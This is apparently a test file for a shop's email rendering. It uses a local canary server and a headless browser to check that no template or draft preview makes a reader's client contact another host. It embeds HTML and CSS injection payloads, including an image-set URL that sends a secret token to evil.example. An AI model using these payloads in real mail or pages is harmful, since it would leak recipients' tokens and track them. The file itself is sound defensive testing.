import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { mailProblem, secretsIn } from '../../../src/schema/admin/mail-audit.ts';
import { renderEmail, sharedValues, type EmailTemplate } from '../../../src/schema/admin/render-email.ts';
import { mailPreview, mailPreviewPolicy } from '../../../src/server/mail-preview.ts';
import { chromium as launchOptions } from '../../support/chromium.ts';
import { mailAttacks, ownLink, ownText } from '../../support/tables/mail-attacks.ts';
import { openDb } from '../support.ts';

const db = openDb();
const siteUrl = 'http://shop.example';
const shared = sharedValues(
  { name: 'Stallbar', tagline: 'Gear', supportEmail: 'help@shop.example' },
  siteUrl,
);
const secret = 's3cr3t-0f-an-order';

/** Represents every other host: records each connection, and its first bytes. */
const heard: string[] = [];
let canary: Server;
/** The shop, with the frame that shows drafts. */
let shop: HttpServer;
let browser: Browser;
let page: Page;
let templates: readonly (EmailTemplate & { names: readonly string[] })[];

const portOf = (server: Server) => (server.address() as AddressInfo).port;
const listening = (server: Server) =>
  new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });

beforeAll(async () => {
  templates = await db.sql(
    `select key, subject, html, text, private.template_names(concat_ws(' ', subject, html, text)) as names
     from public.email_templates order by key`,
  );
  canary = createServer((socket) => {
    const at = heard.push('a connection') - 1;
    socket.on('error', () => undefined);
    socket.once('data', (first) => {
      heard[at] = first.toString('latin1').split('\r\n')[0] ?? '';
      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n');
    });
  });
  const policy = await mailPreviewPolicy(siteUrl);
  shop = createHttpServer((request, response) => {
    if (request.url === '/mail-preview') {
      response.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': policy });
      response.end(mailPreview);
    } else if (request.url === '/editor') {
      response.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "frame-src 'self'" });
      response.end('<iframe sandbox="allow-scripts" src="/mail-preview"></iframe>');
    } else response.writeHead(204).end();
  });
  await Promise.all([listening(canary), listening(shop)]);
  const options = launchOptions();
  const rules = `MAP shop.example 127.0.0.1:${portOf(shop)}, MAP *.example 127.0.0.1:${portOf(canary)}`;
  browser = await chromium.launch({ ...options, args: [...options.args, `--host-resolver-rules=${rules}`] });
  page = await browser.newPage({ viewport: { width: 390, height: 800 }, colorScheme: 'dark' });
});
afterAll(async () => {
  await browser.close();
  canary.close();
  shop.close();
  await db.end();
});

/** Once our own request from the painted page has returned, all earlier requests of the page have been sent too. */
const settled = (of: Page) =>
  of.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const ask = () => {
          const image = new Image();
          for (const end of ['load', 'error']) image.addEventListener(end, () => resolve());
          image.src = `http://shop.example/${Math.random()}.png`;
        };
        requestAnimationFrame(() => requestAnimationFrame(ask));
      }),
  );

/** What another host receives while someone reads this on a phone in dark mode, where most rules of a sheet apply. */
async function leaksOf(html: string): Promise<readonly string[]> {
  heard.length = 0;
  await page.setContent(html);
  await settled(page);
  return [...heard];
}

/** A value that tries everything that a value can. */
const hostile = `http://evil.example/x"'><img src=http://evil.example/i><style>@import "http://evil.example/s"</style>;background:url(http://evil.example/u)`;

test('a canary server sees an email load from elsewhere, with its secret', async () => {
  const html = `<p style="background:image-set('http://evil.example/{{token}}' 1x)">x</p>`;
  const mail = renderEmail({ key: 'x', subject: '', html, text: '' }, { token: secret }, shared);
  expect(await leaksOf(mail.html)).toContain(`GET /${secret} HTTP/1.1`);
});

test("no email of the shop makes a reader's client request anything, whatever its values are", async () => {
  expect(templates.length).toBeGreaterThan(50);
  const loud: string[] = [];
  for (const template of templates) {
    const values = Object.fromEntries(template.names.map((name) => [name, hostile]));
    const mail = renderEmail(template, { ...values, token: secret }, shared);
    if ((await leaksOf(mail.html)).length > 0) loud.push(template.key);
  }
  expect(loud).toEqual([]);
});

describe('an email stored under older rules', () => {
  const values = { token: secret, store_name: 'Iron Works', takeover: true, expires: 'May 1' };
  const invitation = { key: 'vendor-invitation', subject: "You're invited", html: ownLink, text: ownText };
  const builtIn = renderEmail(invitation, values, shared);
  const rendered = mailAttacks
    .filter(({ field, kind }) => field === 'html' && kind !== 'tag' && kind !== 'shape')
    .map(({ kind, title, words }) => {
      const mail = renderEmail({ ...invitation, html: words }, values, shared);
      const problem = mailProblem(mail, builtIn, { siteUrl, secrets: secretsIn(values, ['token']) });
      return { name: `${kind}: ${title}`, kind, html: mail.html, problem };
    });

  test('requests nothing if it is sent', async () => {
    const loud: string[] = [];
    for (const { name, html, problem } of rendered) {
      if (problem === null && (await leaksOf(html)).length > 0) loud.push(name);
    }
    expect(loud).toEqual([]);
  });

  test('would have requested something if it is not sent', async () => {
    const loud = [];
    for (const { name, kind, html } of rendered) {
      if (['style', 'sheet', 'picture'].includes(kind) && (await leaksOf(html)).length > 0) loud.push(name);
    }
    expect(loud).toEqual(
      expect.arrayContaining([
        'style: url()',
        'style: -webkit-image-set()',
        'style: a mask',
        'sheet: an import',
        'sheet: a font',
        'sheet: image-set() for a screen',
        'picture: of another site',
      ]),
    );
  });

  test('requests nothing in its preview, even if it were shown', async () => {
    const editor = await browser.newPage();
    const loud: string[] = [];
    for (const { name, html } of rendered) {
      await editor.goto('http://shop.example/editor');
      heard.length = 0;
      await editor.evaluate((words) => {
        document.querySelector('iframe')?.contentWindow?.postMessage(words, '*');
      }, html);
      await settled(editor);
      if (heard.length > 0) loud.push(`${name} ${heard.join()}`);
    }
    await editor.close();
    expect(loud).toEqual([]);
  });
});
